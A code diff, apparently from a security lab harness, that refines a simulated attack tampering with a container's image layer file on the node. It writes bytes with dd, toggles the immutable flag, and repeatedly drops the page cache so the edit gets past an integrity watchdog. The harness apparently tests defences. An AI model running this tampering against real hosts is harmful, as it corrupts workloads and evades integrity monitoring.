@@ -56,9 +56,16 @@ export function rootLowerdirs(mountinfo: string): string[] {
 /**
  * $1 the container's root as the node sees it (/proc/<pid>/root), $2 the
  * layer file, $3 the offset, $4 the path in the container, $5 "1" when the
- * layer file is immutable (cleared for the edit and set again, as root can).
- * The replacement bytes come on stdin; the file as the container's root
- * serves it after the edit goes to stdout (exit UNREADABLE if it cannot be read).
+ * layer file is immutable (cleared for the edit and set again, as root can),
+ * $6 the length of the edit. The replacement bytes come on stdin; the file
+ * as the container's root serves it after the edit goes to stdout (exit
+ * UNREADABLE if it cannot be read).
+ *
+ * drop_caches frees only the pages nobody holds at that instant: a reader
+ * of the same layer at that moment (the watchdog re-verifying it, on
+ * integrity) keeps the old page cached. So the attacker does what root
+ * would: drops the caches again, up to ten times 100 ms apart, until the
+ * container's file shows the bytes now in the layer file at the offset.
  */
 /** The edit was made but the file could not be read back through the container's root. */
 const UNREADABLE = 93;
@@ -67,7 +74,12 @@ const EDIT_AND_READ_BACK = `cd "$1" || exit 90
 dd of="$2" bs=1 seek="$3" conv=notrunc status=none; rc=$?
 [ "$5" = 1 ] && { chattr +i "$2" || exit 94; }
 [ $rc -eq 0 ] || exit $rc
-sync && echo 3 > /proc/sys/vm/drop_caches || exit 92
+want=$(dd if="$2" bs=1 skip="$3" count="$6" status=none)
+for try in 1 2 3 4 5 6 7 8 9 10; do
+  sync && echo 3 > /proc/sys/vm/drop_caches || exit 92
+  [ "$(cat -- ".$4" 2>/dev/null)" = "$want" ] && break
+  sleep 0.1
+done
 cat -- ".$4" || exit ${UNREADABLE}
 `;
 
@@ -144,7 +156,7 @@ export async function tamperLayerFile(node: LabNodeHandle, pod: RunningPod, atta
   // page cache is dropped (EROFS serves reads from it) is what the
   // container's root serves, even if a defence stops the container as soon
   // as it sees the edit: the root mount lives as long as the shell holds it.
-  const r = await node.exec.run(['sh', '-c', EDIT_AND_READ_BACK, 'edit', `/proc/${pid}/root`, layerFile, String(offset), path, immutable ? '1' : ''], { input: replacement });
+  const r = await node.exec.run(['sh', '-c', EDIT_AND_READ_BACK, 'edit', `/proc/${pid}/root`, layerFile, String(offset), path, immutable ? '1' : '', String(replacement.length)], { input: replacement });
   if (r.exitCode !== 0 && r.exitCode !== UNREADABLE) {
     throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `editing ${layerFile} at ${offset} behind ${path} of ${pod.namespace}/${pod.name} failed (exit ${r.exitCode}): ${r.stderr.toString().trim()}`);
   }
